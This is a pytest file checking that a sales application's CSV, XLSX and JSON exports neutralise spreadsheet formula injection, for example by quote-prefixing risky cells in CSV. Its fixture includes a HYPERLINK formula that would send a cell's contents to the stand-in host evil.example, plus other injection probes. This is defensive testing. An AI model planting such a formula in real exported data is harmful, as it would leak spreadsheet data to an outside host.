"""Exports never hand a spreadsheet a formula written in the data (formula injection)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from qsales_tui.reports.exports import ExportTable, write_table

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
RISKY = [EVIL, "+1", "-2", "@SUM(A1)", "\tcmd"]
SAFE = ["华鑫科技", "Northwind Ltd", "a=b", "", " =padded"]
NAMES = RISKY + SAFE


def _csv_rows(payload: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(payload.decode("utf-8-sig"), newline="")))


@pytest.fixture
def table():
    count = len(NAMES)
    frame = pd.DataFrame(
        {
            "name": NAMES,
            "amount_minor": [-5] * count,
            "quantity": [-3] * count,
            "score": [-1.5] * count,
        }
    )
    return ExportTable("customers", frame, "CNY")


def test_csv_quotes_text_that_a_spreadsheet_would_evaluate(table):
    rows = _csv_rows(write_table(table, "csv"))
    assert [row["name"] for row in rows] == ["'" + name for name in RISKY] + SAFE


def test_csv_quotes_text_starting_with_a_carriage_return():
    frame = pd.DataFrame({"name": ["\rcmd"], "n": [1]})
    text = write_table(ExportTable("t", frame), "csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'\rcmd", "1"]


def test_csv_keeps_a_note_with_line_breaks_in_one_field():
    # RFC 4180 line ends, so a lone carriage return inside a note is quoted, not a new row
    notes = ["line one\rline two", "a\nb", "a\r\nb"]
    frame = pd.DataFrame({"note": notes, "n": [1, 2, 3]})
    text = write_table(ExportTable("t", frame), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in rows[1:]] == notes


def test_csv_leaves_numbers_and_negative_numbers_alone(table):
    rows = _csv_rows(write_table(table, "csv"))
    for row in rows:
        assert (row["amount"], row["amount_minor"], row["quantity"], row["score"]) == (
            "-0.05",
            "-5",
            "-3",
            "-1.5",
        )


def test_xlsx_writes_text_as_strings_never_formulas(table):
    sheet = load_workbook(io.BytesIO(write_table(table, "xlsx"))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_col=1)]
    assert [cell.data_type for cell in cells if cell.value is not None] == ["s"] * (len(NAMES) - 1)
    assert [cell.value or "" for cell in cells] == NAMES  # the text itself unchanged


def test_xlsx_error_codes_in_text_stay_text():
    frame = pd.DataFrame({"name": ["#N/A", "#DIV/0!"]})
    sheet = load_workbook(io.BytesIO(write_table(ExportTable("t", frame), "xlsx"))).active
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2)] == [
        ("#N/A", "s"),
        ("#DIV/0!", "s"),
    ]


def test_xlsx_numbers_stay_numbers(table):
    sheet = load_workbook(io.BytesIO(write_table(table, "xlsx"))).active
    amount, amount_minor, quantity, score = next(sheet.iter_rows(min_row=2, min_col=2))
    assert (amount.value, amount_minor.value, quantity.value, score.value) == (-0.05, -5, -3, -1.5)
    assert {cell.data_type for cell in (amount, amount_minor, quantity, score)} == {"n"}


def test_json_is_for_scripts_and_keeps_text_as_is(table):
    document = json.loads(write_table(table, "json"))
    assert [row["name"] for row in document["rows"]] == NAMES
